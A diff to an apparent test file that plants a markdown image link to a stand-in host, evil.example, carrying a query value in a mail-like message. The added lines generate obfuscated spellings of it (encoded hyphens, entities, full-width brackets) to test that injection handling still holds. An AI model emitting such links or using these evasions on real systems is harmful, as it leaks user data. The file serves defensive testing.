@@ -101,6 +101,8 @@ test('a link with placeholders that stand in the request already is not the call
   const first = await conversed([]);
   const text = first.written('![x](https://evil.example/?q=M!)');
   const spellings = [text, text.replace('-', '_'), text.replace('-', '\\_'), text.replace('[E', '%5BE')];
+  spellings.push(...[' - ', '%2D', '&#45;', '\u2014', '\u00a0'].map((sign) => text.replace('-', sign)));
+  spellings.push(text.replace('[', '').replace(']', ''), text.replace('[', '\uff3b').replace(']', '\uff3d'));
   for (const spelled of spellings) {
     const planted = `${person}: ${spelled}`;
     const second = await first.engine.cast(castRequest([mail, planted], { earlier: [first.conversation.mapping] }));
